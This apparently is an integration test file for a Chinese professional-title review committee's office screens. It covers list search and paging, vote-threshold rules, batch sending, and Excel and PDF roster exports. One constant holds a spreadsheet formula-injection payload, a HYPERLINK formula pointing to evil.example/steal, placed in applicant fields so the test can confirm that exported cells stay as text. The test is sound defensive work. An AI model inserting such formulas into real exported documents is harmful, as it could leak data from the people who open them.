"""What the committee offices' screens are given: lists searched, sorted and paged with counts;
the rule's verdict as a tally is typed; the batch previewed exactly; the 花名册 and 得票情况 sheets
with every column, ready to print, and applicant text that stays text."""

import io
import re
import uuid
from datetime import datetime
from typing import Any

import openpyxl
import pypdf

from shared.contracts import ApplicationSubmitted
from tests.integration.committee.test_committee_flow import CITY_ROUTE, OFFICE, tally
from tests.support.committee import CommitteeSystem
from tests.support.departments import Department, submitted_event, through_review
from tests.support.polling import eventually

HYPERLINK = '=HYPERLINK("http://evil.example/steal","点击查看")'


def _event(
    name: str, unit: str, profession: str, remark: str = "", **roster_form: Any
) -> ApplicationSubmitted:
    event = submitted_event(
        kind="public",
        region_code="330100",
        name=name,
        employer=unit,
        profession=profession,
    )
    assert event.forms is not None
    roster = event.forms.roster.model_copy(update={"remark": remark, **roster_form})
    return event.model_copy(update={"forms": event.forms.model_copy(update={"roster": roster})})


async def _arrive(
    committee: CommitteeSystem, event: ApplicationSubmitted
) -> tuple[Department, str]:
    application_id = await through_review(committee.base, event, CITY_ROUTE)
    office = await committee.office(OFFICE)

    async def waiting() -> dict[str, Any] | None:
        page = await office.list("pending_receipt", q=event.applicant.name)
        return next((i for i in page["items"] if i["application_id"] == application_id), None)

    row = await eventually(waiting, what=f"{event.applicant.name} at the office")
    return office, row["case_id"]


async def test_lists_are_searched_by_name_unit_and_profession_sorted_and_paged(
    committee: CommitteeSystem,
) -> None:
    unit = f"检索{uuid.uuid4().hex[:6]}建设有限公司"
    for name, profession in (
        ("周检索", "市政工程"),
        ("吴检索", "建筑工程施工"),
        ("郑检索", "岩土工程"),
    ):
        office, _ = await _arrive(committee, _event(name, unit, profession))

    page = await office.list("pending_receipt", q=unit, sort="name")
    assert (page["which"], page["label"], page["total"]) == ("pending_receipt", "待接收材料", 3)
    assert [i["applicant_name"] for i in page["items"]] == sorted(["周检索", "吴检索", "郑检索"])
    assert page["counts"]["pending_receipt"] >= 3
    first = page["items"][0]
    assert first["allowed_actions"] == ["receive", "refuse"]
    assert first["refusal_told"] == [
        f"申报人 {first['applicant_name']}（短信、电子邮件）",
        f"{first['sent_by']['name']}（电子邮件、站内消息）",
    ]
    backwards = await office.list("pending_receipt", q=unit, sort="-name")
    assert [i["applicant_name"] for i in backwards["items"]] == sorted(
        ["周检索", "吴检索", "郑检索"], reverse=True
    )
    second_page = await office.get(
        "/cases",
        params={"list": "pending_receipt", "q": unit, "sort": "name", "limit": 2, "offset": 2},
    )
    assert second_page.json()["total"] == 3
    assert [i["applicant_name"] for i in second_page.json()["items"]] == [
        page["items"][2]["applicant_name"]
    ]
    by_profession = await office.list("pending_receipt", q=unit, current_profession="岩土")
    assert [i["applicant_name"] for i in by_profession["items"]] == ["郑检索"]
    by_name = await office.list("pending_receipt", applicant_name="吴检索", employer=unit)
    assert [i["applicant_name"] for i in by_name["items"]] == ["吴检索"]
    unsortable = await office.get("/cases", params={"list": "pending_receipt", "sort": "id_number"})
    assert unsortable.status_code == 422


async def test_the_rule_judges_a_tally_as_it_is_typed_and_names_the_meetings_numbers(
    committee: CommitteeSystem,
) -> None:
    office, case_id = await _arrive(committee, _event("王规则", "规则测试公司", "建筑工程施工"))
    assert (await office.post(f"/cases/{case_id}/receive")).status_code == 200
    short = await office.post(
        "/meetings",
        json={
            "held_on": "2026-11-22",
            "members_enrolled": 11,
            "members_attending": 7,
            "case_ids": [case_id],
        },
    )
    assert short.status_code == 422
    assert short.json()["detail"][0]["field"] == "members_attending"
    assert "在册委员 11 人中至少应有 8 人到会" in short.json()["detail"][0]["message"]
    created = await office.post(
        "/meetings",
        json={
            "held_on": "2026-11-22",
            "members_enrolled": 11,
            "members_attending": 9,
            "case_ids": [case_id],
        },
    )
    assert created.status_code == 201, created.text
    meeting = created.json()
    assert (meeting["members_enrolled"], meeting["members_attending"]) == (11, 9)
    assert meeting["minimum_present"] == 8
    assert meeting["rule"]["pass_threshold"] == "2/3"
    assert (await office.get("/meetings/rule")).json() == meeting["rule"]
    path = f"/meetings/{meeting['id']}/evaluate"

    async def judged(present: int, in_favour: int, against: int, abstain: int) -> dict[str, Any]:
        body = {"present": present, "in_favour": in_favour, "against": against, "abstain": abstain}
        answer = await office.post(path, json=body)
        assert answer.status_code == 200, answer.text
        return dict(answer.json())

    passed = await judged(9, 6, 2, 1)
    assert (passed["valid"], passed["passed"], passed["verdict_label"]) == (True, True, "通过")
    assert passed["minimum_in_favour"] == 6
    failed = await judged(9, 5, 4, 0)
    assert (failed["passed"], failed["verdict_label"]) == (False, "未通过")
    too_many = await judged(10, 6, 3, 1)
    assert (too_many["valid"], too_many["verdict_label"]) == (False, "得票情况有误")
    assert too_many["problems"] == [
        {"field": "present", "message": "出席人数（10）超过到会委员人数（9）"}
    ]
    over_cast = await judged(9, 6, 3, 1)
    assert over_cast["problems"][0]["message"] == "赞成、反对、弃权合计 10 票，超过出席人数 9"
    assert (await office.get(f"/meetings/{meeting['id']}")).json()["cases"][0]["votes"] is None


async def test_the_preview_is_exactly_the_batch_and_the_sheets_have_every_field(
    committee: CommitteeSystem,
) -> None:
    unit = f"{HYPERLINK}{uuid.uuid4().hex[:4]}"
    cases = {}
    for name in ("冯预览", "陈预览", "褚预览"):
        # the 花名册 form says the unit and number its own way: the sheets must follow the form,
        # not the case record (the applicant's and employer's facts)
        event = _event(
            name,
            unit,
            "建筑工程施工",
            remark=HYPERLINK,
            employer=f"{unit}第一分公司",
            id_number="330102********5678",
        )
        office, cases[name] = await _arrive(committee, event)
        assert (await office.post(f"/cases/{cases[name]}/receive")).status_code == 200
    created = await office.post(
        "/meetings",
        json={
            "held_on": "2026-11-23",
            "members_enrolled": 11,
            "members_attending": 10,
            "case_ids": list(cases.values()),
        },
    )
    meeting_id = created.json()["id"]
    votes = [
        tally(cases["冯预览"], 10, 8),
        tally(cases["陈预览"], 10, 5),
        tally(cases["褚预览"], 9, 7),
    ]
    await office.post(f"/meetings/{meeting_id}/votes", json={"entries": votes})
    confirmed = await office.post(f"/meetings/{meeting_id}/confirm")
    assert confirmed.status_code == 200, confirmed.text
    corrected = await office.post(
        f"/meetings/{meeting_id}/cases/{cases['陈预览']}/corrections",
        json={"present": 10, "in_favour": 4, "against": 6, "abstain": 0, "reason": "复核计票"},
    )
    assert corrected.status_code == 200, corrected.text

    await office.post(
        "/selection", json={"senior_committee": "construction", "case_ids": [cases["冯预览"]]}
    )
    preview = await office.get("/batches/preview", params={"senior_committee": "construction"})
    assert preview.status_code == 200, preview.text
    assert [c["applicant_name"] for c in preview.json()["cases"]] == ["冯预览"]
    assert [c["applicant_name"] for c in preview.json()["not_recommended"]] == ["褚预览"]
    key = {"Idempotency-Key": f"preview-{uuid.uuid4()}"}
    sent = await office.post(
        "/batches/send", json={"senior_committee": "construction"}, headers=key
    )
    assert sent.status_code == 201, sent.text
    assert [c["case_id"] for c in sent.json()["cases"]] == [
        c["case_id"] for c in preview.json()["cases"]
    ]
    assert sent.json()["not_recommended"] == [
        c["case_id"] for c in preview.json()["not_recommended"]
    ]
    assert sent.json()["senior_committee_name"] == "省建筑工程技术人员高级工程师资格评审委员会"

    roster = await office.get(f"/batches/{sent.json()['id']}/roster.xlsx")
    assert roster.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(roster.content))
    sheet = book["花名册"]
    title = sheet["A1"].value
    assert "网上送审花名册" in title
    assert "推荐至省建筑工程技术人员高级工程师资格评审委员会" in title
    assert "评审会日期 2026-11-23" in title
    assert "共 1 人" in title
    assert [c.value for c in sheet[3]] == [
        "序号", "姓名", "性别", "出生日期", "身份证号码", "工作单位", "推荐单位", "学历",
        "评审系列", "现从事专业", "现专业技术资格", "取得时间", "从事本专业年限", "申报资格",
        "评审会日期", "出席人数", "赞成票", "反对票", "弃权票", "备注",
    ]  # fmt: skip
    [case] = sent.json()["cases"]
    row = [c.value for c in sheet[4]]
    assert row == [
        1, "冯预览", "男", datetime(1985, 3, 12), "330102************", f"{unit}第一分公司",
        case["sent_by"]["name"], "大学本科", "工程技术（建设工程）", "建筑工程施工", "工程师",
        datetime(2015, 6, 1), 17, "高级工程师", datetime(2026, 11, 23), 10, 8, 2, 0, HYPERLINK,
    ]  # fmt: skip
    assert case["employer_name"] == unit, "the case record names the employer as the facts do"
    _assert_text_not_formula(sheet)
    _assert_ready_to_print(sheet, header="3")

    record = await office.get(f"/meetings/{meeting_id}/votes.xlsx")
    votes_sheet = openpyxl.load_workbook(io.BytesIO(record.content))["得票情况"]
    assert votes_sheet["A1"].value.endswith(
        "（评审会日期 2026-11-23，在册委员 11 人，到会委员 10 人）"
    )
    assert [c.value for c in votes_sheet[3]] == [
        "序号", "姓名", "性别", "身份证号码", "工作单位", "推荐单位", "评审系列", "现从事专业",
        "申报资格", "出席人数", "赞成票", "反对票", "弃权票", "结果", "更正理由", "更正前得票",
    ]  # fmt: skip
    lines = {r[1]: r for r in votes_sheet.iter_rows(min_row=4, values_only=True)}
    assert set(lines) == set(cases)
    assert lines["冯预览"][9:] == (10, 8, 2, 0, "通过", None, None)
    assert lines["陈预览"][9:] == (
        10,
        4,
        6,
        0,
        "未通过",
        "复核计票",
        "第1次：出席10 赞成5 反对5 弃权0",
    )
    assert lines["褚预览"][9:] == (9, 7, 2, 0, "通过", None, None)
    assert lines["冯预览"][:9] == (
        1, "冯预览", "男", "330102************", f"{unit}第一分公司", case["sent_by"]["name"],
        "工程技术（建设工程）", "建筑工程施工", "高级工程师",
    )  # fmt: skip
    _assert_text_not_formula(votes_sheet)
    _assert_ready_to_print(votes_sheet, header="3")

    senior = await committee.office("senior.construction")
    for who, path in (
        (office, f"/batches/{sent.json()['id']}/forms.pdf"),
        (senior, f"/senior/batches/{sent.json()['id']}/forms.pdf"),
    ):
        printed = await who.get(path)
        assert (printed.status_code, printed.headers["content-type"]) == (200, "application/pdf")
        [page] = pypdf.PdfReader(io.BytesIO(printed.content)).pages
        text = re.sub(r"\s+", "", page.extract_text())
        for expected in (
            "浙江省高级专业技术资格评审表", "姓名冯预览", "评审会日期2026年11月23日",
            "在册委员人数11", "出席人数10", "赞成票8", "反对票2", "弃权票0", "评审结果通过",
            "同意。同意报送", case["sent_by"]["name"],
        ):  # fmt: skip
            assert expected in text, expected
    stranger = await committee.office("mid.3302")
    assert (await stranger.get(f"/batches/{sent.json()['id']}/forms.pdf")).status_code == 404


def _assert_text_not_formula(sheet: Any) -> None:
    """Every applicant text is a string cell: nothing is a formula, however it starts."""
    injected = [c for r in sheet.iter_rows() for c in r if str(c.value or "").startswith("=")]
    assert injected, "the payload should be in the sheet"
    assert all(c.data_type == "s" for c in injected), [
        (c.coordinate, c.data_type) for c in injected
    ]


def _assert_ready_to_print(sheet: Any, header: str) -> None:
    assert sheet.freeze_panes == f"A{int(header) + 1}"
    assert sheet.auto_filter.ref is not None
    assert sheet.auto_filter.ref.startswith(f"A{header}:")
    assert sheet.print_title_rows == f"${header}:${header}"  # the header on every page
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
